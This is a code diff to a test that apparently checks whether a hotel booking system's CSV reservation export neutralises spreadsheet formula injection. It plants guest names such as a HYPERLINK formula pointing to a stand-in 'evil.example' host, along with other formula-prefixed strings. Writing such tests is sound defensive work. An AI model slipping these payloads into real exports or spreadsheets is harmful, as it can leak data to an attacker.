@@ -194,7 +194,10 @@ describe.each(testDatabaseTargets)('corporate accounts on $name', (target) => {
     const names = ['=HYPERLINK("http://evil.example/?leak","Open")', '+SUM(1+1)', '-2+3', '@SUM(A1)'];
     const numbers: string[] = [];
     for (const [i, first] of names.entries()) {
-      numbers.push(await book(member, { checkin_date: `2026-05-0${i + 1}`, checkout_date: `2026-05-0${i + 2}`, guest: { first_name: first, last_name: 'Guest', email: 'formula@example.com', phone: '+81312345678' } }));
+      const number = await book(member, { checkin_date: `2026-05-0${i + 1}`, checkout_date: `2026-05-0${i + 2}`, guest: { first_name: 'Formula', last_name: 'Guest', email: 'formula@example.com', phone: '+81312345678' } });
+      // The booking API refuses such names now (the name rules); rows from before the rules may hold them.
+      await api.database.db.update(reservations).set({ guestFirstName: first }).where(eq(reservations.confirmationNumber, number));
+      numbers.push(number);
     }
     const download = organizationDownloadReplySchema.parse((await api.request('POST', orgPath(demoOrgId, '/reservations/downloads'), undefined, bearer(admin))).body).data;
     const csv = (await openZip((await fetchZip(download.download_path)).bytes, download.password)).replace(/^\uFEFF/, '');
